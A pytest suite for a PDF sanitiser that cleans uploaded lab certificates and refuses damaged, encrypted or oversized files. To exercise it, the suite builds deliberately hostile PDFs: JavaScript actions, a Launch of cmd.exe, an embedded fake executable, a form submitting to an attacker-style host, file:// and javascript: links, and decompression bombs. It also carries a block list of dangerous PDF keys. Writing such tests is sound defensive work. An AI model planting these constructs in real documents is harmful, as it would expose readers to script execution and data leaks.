"""Documents: what buyers get from an uploaded certificate (a clean PDF and a preview of page one), what a
hostile PDF loses on the way, and what contributors are told about a PDF that cannot be published.

Every PDF is made here with pikepdf; every hostile part carries the word EVIL, and the clean copy is proven
free of it by opening the copy and reading every object and every stream in it.
"""

from __future__ import annotations

import io
import os
import zlib
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from generator import documents
from generator.documents import DocumentRefused, plan_previews, process_document, render_scale
from generator.issues import MESSAGES, Severity, render_message

A4 = (595, 842)
RED, GREEN, BLUE, WHITE = (255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)
# A red block in the top-left corner (200 × 100 pt) and a line of text: a turn or a blank page shows.
DRAWING = b"1 0 0 rg 0 742 200 100 re f BT /F1 20 Tf 0 0 0 rg 72 600 Td (Certificate of Analysis No. 42) Tj ET"
SAFE_LINK = "https://lab.example.org/verify/42"
DANGEROUS_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/AcroForm", "/XFA",
                  "/Metadata", "/RichMedia", "/RichMediaContent", "/Launch", "/SubmitForm", "/ImportData"}
DANGEROUS_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMediaExecute"}


# --- making PDFs -----------------------------------------------------------------------------------------


def certificate(pages: int = 1, size: tuple[float, float] = A4) -> pikepdf.Pdf:
    """A plain certificate: Helvetica text and a red block on every page."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(DRAWING)
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def appearance(pdf: pikepdf.Pdf, colour: bytes, width: int, height: int) -> pikepdf.Stream:
    """A form XObject filling its box with one colour (``b"0 1 0"`` is green)."""
    return pdf.make_stream(colour + b" rg 0 0 %d %d re f" % (width, height),
                           Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, width, height]))


def link(pdf: pikepdf.Pdf, rect: list[float], action: Dictionary) -> pikepdf.Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect), A=action))


def add_annots(pdf: pikepdf.Pdf, *annots: pikepdf.Dictionary) -> None:
    page = pdf.pages[0].obj
    page.Annots = pdf.make_indirect(Array([*page.get("/Annots", Array()), *annots]))


def hostile_javascript(pdf):
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('EVIL')"))
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("EVIL"), pdf.make_indirect(script)])))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert('EVIL')")))


def hostile_page_actions(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("EVIL()")),
                                     C=Dictionary(S=Name.Launch, F=String("EVIL.exe")))


def hostile_embedded_file(pdf):
    pdf.attachments["EVIL.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ EVIL payload", filename="EVIL.exe")


def hostile_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ EVIL payload", filename="EVIL.exe")
    add_annots(pdf, pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([300, 300, 320, 320]), FS=spec.obj,
        Contents=String("EVIL"), AP=Dictionary(N=appearance(pdf, b"0 0 1", 20, 20)),
        AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("EVIL()"))),
    )))


def hostile_form(pdf):
    """A filled-in field whose green appearance must stay visible, with a submit button sending data away."""
    page = pdf.pages[0].obj
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("lot"), V=String("EVIL value"), F=4,
        Rect=Array([400, 100, 500, 150]), AP=Dictionary(N=appearance(pdf, b"0 1 0", 100, 50)), P=page,
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("EVIL()"))),
    ))
    button = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"), Rect=Array([400, 50, 500, 90]),
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://EVIL.example/collect"))), P=page,
    ))
    add_annots(pdf, field, button)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), NeedAppearances=False,
                                   XFA=pdf.make_stream(b"<xdp:xdp>EVIL</xdp:xdp>"))


def hostile_metadata(pdf):
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["EVIL author"]
        meta["xmp:CreatorTool"] = "EVIL tool"
    pdf.docinfo["/Author"] = "EVIL author"
    pdf.docinfo["/Producer"] = "EVIL producer"
    pdf.docinfo["/CreationDate"] = "D:20240101120000+07'00'"
    # A picture with its own XMP packet, deep in the page's resources.
    picture = pdf.make_stream(b"\x00\x00\xff", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                              ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
                              Metadata=pdf.make_stream(b"<x:xmpmeta>EVIL camera</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML))
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=picture)


def hostile_launch_link(pdf):
    add_annots(pdf, link(pdf, [72, 500, 300, 520], Dictionary(S=Name.Launch, F=String("EVIL.exe"),
                                                               Win=Dictionary(F=String("cmd.exe"), P=String("/c EVIL")))))


def hostile_other_actions(pdf):
    add_annots(pdf,
               link(pdf, [72, 400, 300, 420], Dictionary(S=Name.GoToR, F=String("EVIL.pdf"), D=Array([0, Name.Fit]))),
               link(pdf, [72, 380, 300, 400], Dictionary(S=Name.ImportData, F=String("EVIL.fdf"))),
               link(pdf, [72, 360, 300, 380], Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("EVIL")))),
               link(pdf, [72, 340, 300, 360], Dictionary(S=Name.URI, URI=String("https://lab.example.org/"),
                                                         Next=Dictionary(S=Name.JavaScript, JS=String("EVIL()")))),
               pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 50, 50]),
                                            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("EVIL.swf")]))))))


def hostile_links(pdf):
    """Links a buyer should never be sent to, around one a buyer needs."""
    add_annots(pdf,
               link(pdf, [72, 300, 300, 320], Dictionary(S=Name.URI, URI=String("http://EVIL.example/"))),
               link(pdf, [72, 280, 300, 300], Dictionary(S=Name.URI, URI=String(SAFE_LINK))),
               link(pdf, [72, 260, 300, 280], Dictionary(S=Name.URI, URI=String("javascript:EVIL()"))),
               link(pdf, [72, 240, 300, 260], Dictionary(S=Name.URI, URI=String("file:///EVIL"))),
               link(pdf, [72, 220, 300, 240], Dictionary(S=Name.URI, URI=String("https://EVIL.example/\x01"))))


def hostile_resource_dragging_the_catalog(pdf):
    """A resource pointing at the catalog: copying the page's resources drags every catalog entry along."""
    hostile_javascript(pdf)
    hostile_embedded_file(pdf)
    pdf.pages[0].obj.Resources.Properties = Dictionary(MC0=pdf.Root)


HOSTILE = {
    "javascript-open-action": hostile_javascript,
    "page-actions": hostile_page_actions,
    "embedded-file": hostile_embedded_file,
    "file-attachment-annotation": hostile_attachment_annotation,
    "form-with-submit-and-xfa": hostile_form,
    "xmp-and-info-metadata": hostile_metadata,
    "launch-link": hostile_launch_link,
    "other-actions": hostile_other_actions,
    "links": hostile_links,
    "resource-dragging-the-catalog": hostile_resource_dragging_the_catalog,
}


# --- reading outputs -------------------------------------------------------------------------------------


def every_object(pdf: pikepdf.Pdf):
    """Every object in the file, and every dictionary and array nested in one."""
    stack = [*pdf.objects, pdf.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            yield obj
            stack.extend(obj[key] for key in obj.keys() if not (isinstance(obj[key], pikepdf.Object) and obj[key].is_indirect))
        elif isinstance(obj, pikepdf.Array):
            yield obj
            stack.extend(item for item in obj if not (isinstance(item, pikepdf.Object) and item.is_indirect))


def text_of(pdf: pikepdf.Pdf) -> bytes:
    """Every string, name and unpacked stream of the file, as bytes to search."""
    parts = []
    for obj in every_object(pdf):
        values = list(obj) if isinstance(obj, pikepdf.Array) else [*obj.keys(), *(obj[k] for k in obj.keys())]
        parts.extend(bytes(v) if isinstance(v, pikepdf.String) else str(v).encode() for v in values
                     if isinstance(v, (pikepdf.String, pikepdf.Name, str)))
        if isinstance(obj, pikepdf.Stream):
            parts.append(obj.read_bytes())
    return b"\n".join(parts)


def assert_clean(path: Path) -> pikepdf.Pdf:
    pdf = pikepdf.open(path)
    assert not pdf.is_encrypted
    assert set(pdf.Root.keys()) == {"/Type", "/Pages"}
    assert "/Info" not in pdf.trailer
    for obj in every_object(pdf):
        if isinstance(obj, pikepdf.Array):
            continue
        assert DANGEROUS_KEYS & set(obj.keys()) == set(), repr(obj)
        assert str(obj.get("/S", "")) not in DANGEROUS_ACTIONS
    assert b"EVIL" not in text_of(pdf)
    for page in pdf.pages:
        for annot in page.obj.get("/Annots", Array()):
            assert annot.Subtype == Name.Link and annot.A.S == Name.URI and str(annot.A.URI).startswith("https://")
    return pdf


def open_image(path: Path) -> Image.Image:
    image = Image.open(path)
    image.load()
    return image


def at(image: Image.Image, fx: float, fy: float) -> tuple:
    return image.convert("RGB").getpixel((int(fx * (image.width - 1)), int(fy * (image.height - 1))))


def near(actual: tuple, expected: tuple, tolerance: int = 40) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected))


def codes(path: Path) -> list[str]:
    return [code for code, _, _ in documents.inspect_document(path)]


# --- 1. a clean certificate ------------------------------------------------------------------------------


@pytest.fixture
def clean_source(tmp_path) -> Path:
    pdf = certificate()
    pdf.docinfo["/Title"] = "Certificate"
    return write(tmp_path, "coa-2026.pdf", saved(pdf))


def test_a_clean_certificate_passes_the_check(clean_source):
    assert list(documents.inspect_document(clean_source)) == []


def test_a_clean_certificate_becomes_a_pdf_and_previews_of_page_one(clean_source, tmp_path):
    cache = tmp_path / "cache"
    processed, reused = process_document(clean_source, cache)

    assert not reused
    key = processed.key
    assert len(key) == 16 and set(key) <= set("0123456789abcdef")
    assert processed.pdf == f"{key}.pdf" and processed.pages == 1
    assert processed.size == (cache / processed.pdf).stat().st_size
    assert (processed.page_width, processed.page_height) == A4
    assert [(v.name, v.width, v.height, v.format) for v in processed.previews] == [
        (f"{key}-320.webp", 320, 453, "webp"), (f"{key}-640.webp", 640, 906, "webp"),
    ]
    assert [v.width for v in processed.of_format("webp")] == [320, 640]
    assert sorted(p.name for p in cache.iterdir()) == sorted([f"{key}.json", processed.pdf, *(v.name for v in processed.previews)])
    for variant in processed.previews:
        image = open_image(cache / variant.name)
        assert (image.format, image.size, image.mode) == ("WEBP", (variant.width, variant.height), "RGB")
        assert near(at(image, 0.1, 0.05), RED) and near(at(image, 0.9, 0.9), WHITE)  # page one, upright
        assert not {"exif", "icc_profile", "xmp", "comment"} & image.info.keys()
    clean = assert_clean(cache / processed.pdf)
    assert len(clean.pages) == 1 and b"Certificate of Analysis No. 42" in clean.pages[0].Contents.read_bytes()


def test_the_same_source_gives_the_same_bytes(clean_source, tmp_path):
    first, _ = process_document(clean_source, tmp_path / "cache-1")
    second, _ = process_document(write(tmp_path, "elsewhere/renamed.pdf", clean_source.read_bytes()), tmp_path / "cache-2")
    assert second == first
    for name in [first.pdf, *(v.name for v in first.previews)]:
        assert (tmp_path / "cache-1" / name).read_bytes() == (tmp_path / "cache-2" / name).read_bytes()


def test_the_clean_pdf_carries_no_date_or_random_id(clean_source, tmp_path):
    processed, _ = process_document(clean_source, tmp_path / "cache")
    data = (tmp_path / "cache" / processed.pdf).read_bytes()
    pdf = pikepdf.open(io.BytesIO(data))
    assert "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root
    ids = pdf.trailer.ID
    assert bytes(ids[0]) == bytes(ids[1])  # derived from the content (deterministic), not from the clock
    assert b"D:20" not in text_of(pdf)


def test_every_page_is_published(tmp_path):
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(certificate(pages=3))), tmp_path / "cache")
    assert processed.pages == 3
    assert len(assert_clean(tmp_path / "cache" / processed.pdf).pages) == 3


def test_a_turned_page_is_previewed_as_shown(tmp_path):
    pdf = certificate()
    pdf.pages[0].obj.Rotate = 90
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(pdf)), tmp_path / "cache")
    assert (processed.page_width, processed.page_height) == (842, 595)
    widest = processed.of_format("webp")[-1]
    assert (widest.width, widest.height) == (640, 452)
    image = open_image(tmp_path / "cache" / widest.name)
    assert near(at(image, 0.95, 0.1), RED)  # turned a quarter clockwise: the top-left block is top-right


def test_a_password_only_against_changes_is_dropped_and_the_copy_published(tmp_path):
    """Many issuers protect certificates against editing; such a file opens without a password, so it can be
    checked and copied (unlike one that needs a password to open)."""
    data = saved(certificate(), encryption=pikepdf.Encryption(owner="issuer", user="", allow=pikepdf.Permissions(modify_other=False)))
    source = write(tmp_path, "coa.pdf", data)
    assert pikepdf.open(source).is_encrypted
    assert codes(source) == []
    processed, _ = process_document(source, tmp_path / "cache")
    assert_clean(tmp_path / "cache" / processed.pdf)


# --- 2. hostile PDFs are neutralised -----------------------------------------------------------------------


def test_the_hostile_parts_are_really_in_the_sources(tmp_path):
    """Else the tests below would pass on PDFs that never carried anything."""
    for name, make in HOSTILE.items():
        pdf = certificate()
        make(pdf)
        assert b"EVIL" in text_of(pikepdf.open(io.BytesIO(saved(pdf)))), name


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_parts_are_gone_and_the_page_is_still_shown(tmp_path, make):
    pdf = certificate()
    make(pdf)
    source = write(tmp_path, "coa.pdf", saved(pdf))

    assert codes(source) == []  # nothing the contributor must fix: the published copy leaves it all out
    processed, _ = process_document(source, tmp_path / "cache")

    clean = assert_clean(tmp_path / "cache" / processed.pdf)
    assert clean.pages[0].Resources.Font.F1.BaseFont == Name.Helvetica
    assert near(at(open_image(tmp_path / "cache" / processed.of_format("webp")[-1].name), 0.1, 0.05), RED)


def test_no_embedded_file_survives(tmp_path):
    pdf = certificate()
    hostile_embedded_file(pdf)
    hostile_attachment_annotation(pdf)
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(pdf)), tmp_path / "cache")
    clean = assert_clean(tmp_path / "cache" / processed.pdf)
    assert len(clean.attachments) == 0
    assert not any(obj.get("/Type") in (Name.EmbeddedFile, Name.Filespec) for obj in every_object(clean) if not isinstance(obj, pikepdf.Array))
    assert b"MZ EVIL payload" not in (tmp_path / "cache" / processed.pdf).read_bytes()


def test_a_filled_in_form_keeps_its_values_as_drawing_and_loses_the_form(tmp_path):
    pdf = certificate()
    hostile_form(pdf)
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(pdf)), tmp_path / "cache")
    clean = assert_clean(tmp_path / "cache" / processed.pdf)
    assert "/Annots" not in clean.pages[0]
    preview = open_image(tmp_path / "cache" / processed.of_format("webp")[-1].name)
    assert near(at(preview, 450 / 595, 1 - 125 / 842), GREEN)  # the field's appearance, drawn into the page


def test_only_https_links_are_kept(tmp_path):
    pdf = certificate()
    hostile_links(pdf)
    hostile_launch_link(pdf)
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(pdf)), tmp_path / "cache")
    clean = assert_clean(tmp_path / "cache" / processed.pdf)
    kept = [(str(a.A.URI), [float(v) for v in a.Rect]) for a in clean.pages[0].Annots]
    assert kept == [(SAFE_LINK, [72, 280, 300, 300])]
    (annot,) = clean.pages[0].Annots
    assert set(annot.keys()) == {"/Type", "/Subtype", "/Rect", "/Border", "/A"} and set(annot.A.keys()) == {"/S", "/URI"}


def test_an_https_link_chained_to_a_script_keeps_the_link_alone(tmp_path):
    pdf = certificate()
    hostile_other_actions(pdf)
    processed, _ = process_document(write(tmp_path, "coa.pdf", saved(pdf)), tmp_path / "cache")
    clean = assert_clean(tmp_path / "cache" / processed.pdf)
    (annot,) = clean.pages[0].Annots
    assert dict(annot.A.items()) == {"/S": Name.URI, "/URI": "https://lab.example.org/"}  # no /Next


def test_the_sweep_catches_what_a_resource_drags_along(tmp_path):
    """Without the sweep the copied catalog would bring its script and attachment: the check finds them."""
    pdf = certificate()
    hostile_resource_dragging_the_catalog(pdf)
    out = pikepdf.new()
    out.pages.append(pikepdf.Page(pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, *A4]),
                                                               Resources=pdf.pages[0].obj.Resources))))
    found = documents.find_active_content(out)
    assert {"/OpenAction", "/JavaScript", "/EmbeddedFiles", "/EF"} <= set(found)
    documents._sweep(out)
    assert documents.find_active_content(out) == []


@pytest.mark.parametrize(("uri", "kept"), [
    ("https://lab.example.org/verify?id=42", True),
    ("HTTPS://LAB.EXAMPLE.ORG/", True),
    ("http://lab.example.org/", False),
    ("https://", False),
    ("https:///path", False),
    ("javascript:alert(1)", False),
    ("file:///etc/passwd", False),
    ("https://lab.example.org/a b", False),
    ("https://lab.example.org/\u00e9", False),
    ("https://lab.example.org/" + "a" * 2000, False),
    ("", False),
])
def test_is_safe_link(uri, kept):
    assert documents.is_safe_link(uri) is kept


# --- 3. what cannot be published is refused ----------------------------------------------------------------


def encrypted() -> bytes:
    return saved(certificate(), encryption=pikepdf.Encryption(owner="issuer", user="secret"))


def truncated() -> bytes:
    data = saved(certificate())
    return data[: len(data) * 2 // 3]


def wrong_xref() -> bytes:
    """qpdf repairs this one, with warnings; another viewer may read it otherwise."""
    data = saved(certificate())
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    end = data.index(b"\n", start)
    return data[:start] + str(int(data[start:end]) - 17).encode() + data[end:]


def garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def no_pages() -> bytes:
    pdf = certificate()
    del pdf.pages[0]
    return saved(pdf)


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), RED).save(buffer, "JPEG")
    return buffer.getvalue()


def huge_picture() -> bytes:
    """A picture whose dictionary claims 10000 × 5000 pixels (50 MP): refused from the dictionary alone."""
    pdf = certificate()
    picture = pdf.make_stream(zlib.compress(b"\0" * 300), Filter=Name.FlateDecode, Type=Name.XObject, Subtype=Name.Image,
                              Width=10000, Height=5000, ColorSpace=Name.DeviceGray, BitsPerComponent=8)
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=picture)
    return saved(pdf)


def deflate_bomb() -> bytes:
    """A content stream of 6 MB of spaces in 6 kB (against a limit lowered to 5 MB by the test)."""
    pdf = certificate()
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents,
                                       pdf.make_stream(zlib.compress(b" " * 6_000_000, 9), Filter=Name.FlateDecode)])
    return saved(pdf)


def object_stream_bomb() -> bytes:
    """A dictionary of 3 MB inside an object stream, which qpdf unpacks whole before anyone sees a stream."""
    pdf = certificate()
    pdf.Root.Filler = pdf.make_indirect(Dictionary(Padding=String(" " * 3_000_000)))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


REFUSED = {
    # name: (file name, bytes, [message codes])
    "not-a-pdf": ("coa.pdf", lambda: b"Certificate of Analysis\nLot 42\n", ["rule.document_format"]),
    "html-named-pdf": ("coa.pdf", lambda: b"<html><script>alert(1)</script>%PDF-1.7", ["rule.document_format"]),
    "jpeg-named-pdf": ("coa.pdf", jpeg, ["rule.document_extension"]),
    "pdf-named-jpg": ("coa.jpg", lambda: saved(certificate()), ["rule.document_extension"]),
    "encrypted": ("coa.pdf", encrypted, ["rule.document_encrypted"]),
    "truncated": ("coa.pdf", truncated, ["rule.document_incomplete"]),
    "repaired-by-qpdf": ("coa.pdf", wrong_xref, ["rule.document_damaged"]),
    "garbage": ("coa.pdf", garbage, ["rule.document_damaged"]),
    "no-pages": ("coa.pdf", no_pages, ["rule.document_damaged"]),
    "too-many-pages": ("coa.pdf", lambda: saved(certificate(pages=documents.MAX_PAGES + 1)), ["rule.document_pages"]),
    "huge-page": ("coa.pdf", lambda: saved(certificate(size=(3600, 3600))), ["rule.document_page_size"]),
    "huge-user-unit": ("coa.pdf", lambda: _with_user_unit(saved(certificate()), 10), ["rule.document_page_size"]),
    "strip-page": ("coa.pdf", lambda: saved(certificate(size=(100, 842))), ["rule.document_page_shape"]),
    "huge-picture": ("coa.pdf", huge_picture, ["rule.document_image_pixels"]),
    "deflate-bomb": ("coa.pdf", deflate_bomb, ["rule.document_unpacked"]),
}


def _with_user_unit(data: bytes, unit: int) -> bytes:
    pdf = pikepdf.open(io.BytesIO(data))
    pdf.pages[0].obj.UserUnit = unit
    return saved(pdf)


@pytest.fixture
def low_unpack_limit(monkeypatch):
    monkeypatch.setattr(documents, "MAX_UNPACKED_BYTES", 5_000_000)


@pytest.mark.parametrize("case", REFUSED)
def test_what_cannot_be_published_is_one_clear_issue(tmp_path, case, low_unpack_limit):
    name, make, expected = REFUSED[case]
    source = write(tmp_path, name, make())
    found = list(documents.inspect_document(source))
    assert [code for code, _, _ in found] == expected
    assert all(severity == Severity.ERROR for _, severity, _ in found)
    for code, _, values in found:
        for lang in ("en", "id"):
            assert "{" not in render_message(code, {"value": name, **values}, lang)


@pytest.mark.parametrize("case", [c for c in REFUSED if REFUSED[c][2] != ["rule.document_extension"]])
def test_the_build_refuses_them_too_and_writes_nothing(tmp_path, case, low_unpack_limit):
    name, make, expected = REFUSED[case]
    with pytest.raises(DocumentRefused) as refused:
        process_document(write(tmp_path, name, make()), tmp_path / "cache")
    assert [refused.value.code] == expected
    assert str(refused.value).startswith(("document 'coa.pdf'", "'coa.pdf'"))
    assert not (tmp_path / "cache").exists()


def test_a_photo_named_pdf_is_refused_by_the_build(tmp_path):
    with pytest.raises(DocumentRefused, match="is not a PDF"):
        process_document(write(tmp_path, "coa.pdf", jpeg()), tmp_path / "cache")


def test_messages_name_the_numbers(tmp_path, low_unpack_limit):
    pages = write(tmp_path, "a.pdf", saved(certificate(pages=21)))
    huge = write(tmp_path, "b.pdf", saved(certificate(size=(3600, 3600))))
    strip = write(tmp_path, "c.pdf", saved(certificate(size=(100, 842))))
    photo = write(tmp_path, "d.pdf", jpeg())
    assert [render_message(c, {"value": p.name, **v}, "en") for p in (pages, huge, strip, photo)
            for c, _, v in documents.inspect_document(p)] == [
        "document 'a.pdf' has 21 pages, more than 20 (upload only the certificate or analysis pages)",
        "document 'b.pdf': page 1 measures 1270 × 1270 mm, more than 1200 mm on a side (save it again on A4 or Letter paper)",
        "document 'c.pdf': page 1 measures 35 × 297 mm, more than 5 times as long as it is wide (save it again on A4 or Letter paper)",
        "'d.pdf' is a JPEG file but is named .pdf (rename it: .pdf for a PDF, .jpg, .png or .webp for a photo)",
    ]


def test_every_page_size_is_checked_not_only_the_first(tmp_path):
    pdf = certificate(pages=3)
    pdf.pages[2].obj.MediaBox = Array([0, 0, 3600, 842])
    assert [v["page"] for _, _, v in documents.inspect_document(write(tmp_path, "coa.pdf", saved(pdf)))] == ["3"]


def test_too_big_file_is_refused_before_it_is_read(tmp_path, monkeypatch):
    source = tmp_path / "coa.pdf"
    with source.open("wb") as file:  # sparse: 10 MB and a byte, written in an instant
        file.write(b"%PDF-1.7\n")
        file.truncate(documents.MAX_FILE_BYTES + 1)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("a file over the limit was read"))
    assert list(documents.inspect_document(source)) == [
        ("rule.document_too_big", Severity.ERROR, {"size": "10.1 MB", "limit": "10 MB"})]
    with pytest.raises(DocumentRefused, match="more than 10 MB"):
        process_document(source, tmp_path / "cache")


def test_a_file_at_the_limit_is_read(tmp_path):
    data = saved(certificate())
    source = write(tmp_path, "coa.pdf", data[:-6] + b" " * (documents.MAX_FILE_BYTES - len(data)) + data[-6:])
    assert source.stat().st_size == documents.MAX_FILE_BYTES
    assert "rule.document_too_big" not in codes(source)


def test_a_bomb_in_the_files_own_structure_is_stopped_by_qpdf(tmp_path):
    """qpdf unpacks object streams before any check sees them: the check sets qpdf's own limit for that."""
    source = write(tmp_path, "coa.pdf", object_stream_bomb())
    previous = pikepdf.settings.set_qpdf_limits(flate_max_memory=0)
    try:
        assert codes(source) == []  # 3 MB, well within the limit
        assert pikepdf.settings.get_qpdf_limits()["flate_max_memory"] == documents.MAX_UNPACKED_BYTES
        pikepdf.settings.set_qpdf_limits(flate_max_memory=1_000_000)  # lowered, so the test need not unpack 500 MB
        assert codes(source) == ["rule.document_damaged"]
    finally:
        pikepdf.settings.set_qpdf_limits(**previous)


def test_damaged_files_never_crash_and_what_passes_can_be_processed(tmp_path):
    """No traceback for bad input: an issue from the validator, or a document the build can publish."""
    import random

    pdf = certificate()
    hostile_form(pdf)
    hostile_links(pdf)
    original = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    rng = random.Random(7)
    path = tmp_path / "coa.pdf"
    for index in range(40):
        copy = bytearray(original)
        for _ in range(rng.choice([1, 2, 4, 8])):
            copy[rng.randrange(len(copy))] = rng.randrange(256)
        path.write_bytes(bytes(copy))
        found = list(documents.inspect_document(path))
        assert all(code.startswith("rule.document_") for code, _, _ in found)
        if not found:
            processed, _ = process_document(path, tmp_path / "cache")
            assert_clean(tmp_path / "cache" / processed.pdf)


def test_every_document_message_is_exercised_and_worded_in_both_languages():
    ours = {code for code in MESSAGES if code.startswith("rule.document_")}
    exercised = {code for _, _, expected in REFUSED.values() for code in expected} | {"rule.document_too_big"}
    assert exercised == ours
    for code in ours:
        assert MESSAGES[code]["en"] and MESSAGES[code]["id"] and MESSAGES[code]["en"] != MESSAGES[code]["id"]
        assert "(" in MESSAGES[code]["en"] and "(" in MESSAGES[code]["id"]  # each says how to fix it


# --- 4. cache ------------------------------------------------------------------------------------------------


def snapshot(cache: Path) -> dict[str, int]:
    return {path.name: path.stat().st_mtime_ns for path in sorted(cache.iterdir())}


def age(cache: Path) -> None:
    """Date every cached file far back, so any rewrite shows in its mtime whatever the clock's resolution."""
    for path in cache.iterdir():
        os.utime(path, ns=(1_000_000_000, 1_000_000_000))


@pytest.fixture
def cached(clean_source, tmp_path):
    cache = tmp_path / "cache"
    processed, reused = process_document(clean_source, cache)
    assert not reused
    age(cache)
    return clean_source, cache, processed


def test_second_run_reuses_and_writes_nothing(cached):
    source, cache, processed = cached
    before = snapshot(cache)
    assert process_document(source, cache) == (processed, True)
    assert snapshot(cache) == before


def test_one_changed_byte_is_a_new_document(cached):
    source, cache, processed = cached
    data = source.read_bytes()
    source.write_bytes(data.replace(b"Certificate", b"Cert1ficate"))
    again, reused = process_document(source, cache)
    assert not reused and again.key != processed.key


@pytest.mark.parametrize("which", ["pdf", "preview", "short-pdf"])
def test_a_missing_or_cut_output_is_made_again(cached, which):
    source, cache, processed = cached
    if which == "pdf":
        (cache / processed.pdf).unlink()
    elif which == "preview":
        (cache / processed.previews[-1].name).unlink()
    else:
        (cache / processed.pdf).write_bytes((cache / processed.pdf).read_bytes()[:100])
    assert process_document(source, cache) == (processed, False)
    assert_clean(cache / processed.pdf)


@pytest.mark.parametrize("manifest", ["{not json", "", "[]", '{"key": "x"}', "other-height", "escaping-name", "zero-pages"])
def test_a_damaged_manifest_is_made_again(cached, manifest):
    source, cache, processed = cached
    path = cache / f"{processed.key}.json"
    text = path.read_text()
    manifest = {
        "other-height": text.replace('"height": 906', '"height": 907'),
        "escaping-name": text.replace(f'"{processed.key}.pdf"', '"../../coa-2026.pdf"'),
        "zero-pages": text.replace('"pages": 1', '"pages": 0'),
    }.get(manifest, manifest)
    assert manifest != text
    path.write_text(manifest)
    assert process_document(source, cache) == (processed, False)
    assert process_document(source, cache) == (processed, True)


def test_identical_documents_processed_at_once_do_not_collide(tmp_path):
    """The same certificate in two BUMDes folders is written by two workers under the same names."""
    from concurrent.futures import ThreadPoolExecutor

    data = saved(certificate())
    sources = [write(tmp_path, f"bumdes-{i}/coa.pdf", data) for i in range(4)]
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda source: process_document(source, tmp_path / "cache"), sources))
    assert len({processed for processed, _ in results}) == 1
    processed = results[0][0]
    assert sorted(p.name for p in (tmp_path / "cache").iterdir()) == sorted(
        [f"{processed.key}.json", processed.pdf, *(v.name for v in processed.previews)])
    assert_clean(tmp_path / "cache" / processed.pdf)


def test_changed_settings_give_new_names(clean_source, monkeypatch):
    data = clean_source.read_bytes()
    before = documents.document_key(data)
    monkeypatch.setattr(documents, "WEBP_QUALITY", documents.WEBP_QUALITY - 5)
    assert documents.document_key(data) != before


# --- 5. pure planning --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("size", "expected"), [
    (A4, [(320, 453), (640, 906)]),
    ((842, 595), [(320, 226), (640, 452)]),  # landscape
    ((612, 792), [(320, 414), (640, 828)]),  # US Letter
    ((72, 72), [(320, 320), (640, 640)]),  # a small page is drawn large, from its vectors
    ((1000, 1), [(320, 1), (640, 1)]),  # never a zero height
])
def test_plan_previews(size, expected):
    assert plan_previews(*size) == expected


def test_render_scale_refuses_more_pixels_than_the_limit():
    assert render_scale(*A4, 640) == pytest.approx(640 / 595)
